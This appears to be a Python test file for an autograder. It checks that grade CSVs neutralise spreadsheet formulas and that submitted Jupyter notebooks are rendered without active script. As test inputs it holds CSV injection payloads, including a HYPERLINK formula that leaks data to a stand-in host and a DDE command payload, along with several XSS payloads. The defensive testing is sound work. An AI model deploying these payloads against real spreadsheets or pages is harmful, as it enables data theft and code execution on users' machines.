"""What the grader writes for people is inert: CSV a spreadsheet does not run, notebooks a browser does not run.

Fast: no grading. The notebook is rendered with nbconvert's HTML exporter, which nbgrader's
formgrader uses to show a submission.
"""

from __future__ import annotations

import csv
import json

import pytest

from autograder.exports import spreadsheet_safe, write_grades, write_table
from autograder.inert import inert_notebook
from autograder.results import SubmissionResult
from autograder.results import TestResult as Outcome
from autograder.untrusted import UntrustedDataError

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


def test_every_text_cell_a_spreadsheet_would_run_gets_a_quote(tmp_path):
    rows = [[name, "plain", 6.5, -1.0] for name in FORMULAS]
    path = write_table(tmp_path / "t.csv", ["name", "text", "score", "delta"], rows)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for Excel
    read = list(csv.reader(raw.decode("utf-8-sig").splitlines(keepends=True)))
    assert [row[0] for row in read[1:]] == ["'" + name for name in FORMULAS]
    assert all(row[1:] == ["plain", "6.5", "-1"] for row in read[1:])  # numbers stay numbers
    assert spreadsheet_safe("José = x") == "José = x" and spreadsheet_safe(None) == ""


def test_grades_csv_quotes_hostile_names_and_reasons(tmp_path):
    results = [SubmissionResult("mallory", "tiny", [Outcome("test_mean", 1, 2, False, "no")],
                                reason="=cmd|' /C calc'!A0")]
    path = write_grades(results, tmp_path / "grades.csv", {"mallory": FORMULAS[0]})
    row = next(csv.DictReader(path.read_text(encoding="utf-8-sig").splitlines()))
    assert row["name"] == "'" + FORMULAS[0] and row["reason"] == "'=cmd|' /C calc'!A0"
    assert row["score"] == "1" and row["test_mean"] == "1"


SCRIPT = "<script>alert('pwned')</script>"


def hostile_notebook() -> dict:
    def display(data, metadata=None):
        return {"output_type": "display_data", "data": data, "metadata": metadata or {}}

    return {"nbformat": 4, "nbformat_minor": 5,
            "metadata": {"widgets": {"application/vnd.jupyter.widget-state+json": {"state": SCRIPT}}},
            "cells": [
                {"cell_type": "markdown", "metadata": {}, "source": f"# Answer\n{SCRIPT}\n<img src=x onerror=alert(1)>\n"
                 "[link](javascript:alert(2)) and 1 < 2", "attachments": {"a.svg": {"image/svg+xml": SCRIPT}}},
                {"cell_type": "raw", "metadata": {"format": "text/html"}, "source": SCRIPT},
                {"cell_type": "code", "metadata": {}, "execution_count": 1, "source": "show()", "outputs": [
                    display({"text/html": SCRIPT, "text/plain": "<IPython.core.display.HTML object>"}),
                    display({"application/javascript": "alert('js')"}),
                    display({"text/javascript": "alert('tjs')", "image/svg+xml": SCRIPT}),
                    display({"text/markdown": SCRIPT}),
                    display({"image/png": 'iVBORw0KGgo="><script>alert(3)</script>', "text/plain": "<Figure>"}),
                    display({"image/png": "iVBORw0KGgo="}, {"image/png": {"width": '1 onerror=alert(4)', "height": 20}}),
                    {"output_type": "execute_result", "execution_count": 1, "metadata": {},
                     "data": {"text/html": SCRIPT, "text/plain": "'ok'"}},
                    {"output_type": "stream", "name": "stdout", "text": SCRIPT},
                    {"output_type": "error", "ename": "E", "evalue": SCRIPT, "traceback": [SCRIPT]},
                    {"output_type": "mystery", "data": {"text/html": SCRIPT}},
                ]},
            ]}


def test_an_executed_notebook_is_kept_inert_for_formgrader():
    import nbformat
    from nbconvert import HTMLExporter

    inert = json.loads(inert_notebook(json.dumps(hostile_notebook()).encode()))
    nbformat.validate(nbformat.from_dict(inert))
    outputs = inert["cells"][2]["outputs"]
    assert [set(o.get("data", {})) for o in outputs] == [
        {"text/plain"}, {"text/plain"}, {"text/plain"}, {"text/plain"}, {"text/plain"}, {"image/png"},
        {"text/plain"}, set(), set(), ]
    assert outputs[0]["data"]["text/plain"] == ("<IPython.core.display.HTML object>\n[text/html output shown as text by "
                                                "the grader]\n<script>alert('pwned')</script>")  # its own text, then its source
    assert "alert('js')" in outputs[1]["data"]["text/plain"]  # hidden, shown as text instead
    assert outputs[5]["metadata"] == {"image/png": {"height": 20}}
    assert "widgets" not in inert["metadata"] and "attachments" not in inert["cells"][0]
    assert inert["cells"][1]["metadata"] == {}
    html, _ = HTMLExporter().from_notebook_node(nbformat.from_dict(inert))
    for active in (SCRIPT, "<img src=x onerror", 'href="javascript:', "alert(3)</script>", "width=1 onerror"):
        assert active not in html, active
    assert "&lt;script&gt;alert" in html or "&lt;script>alert" in html  # the student's text is still shown


def test_a_notebook_that_is_not_one_is_refused():
    for data in (b"[1, 2]", b"{", b"[" * 100 + b"]" * 100):
        with pytest.raises(UntrustedDataError):
            inert_notebook(data)
